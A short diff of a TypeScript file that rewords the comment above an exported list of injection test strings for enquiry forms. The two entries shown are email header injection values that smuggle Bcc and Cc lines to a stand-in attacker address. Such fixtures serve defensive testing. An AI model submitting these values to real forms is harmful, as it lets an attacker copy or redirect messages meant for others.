@@ -1,4 +1,4 @@
-/** What has been written into forms to reach what stands behind them: mail heads, spreadsheets, pages, logs, SQL. */
+/** Attacks on what is made from an enquiry: mail headers, spreadsheets, pages, logs, SQL. */
 export const injectionStrings: readonly string[] = [
   'Asha\r\nBcc: thief@evil.example',
   'Asha\nCc: thief@evil.example',
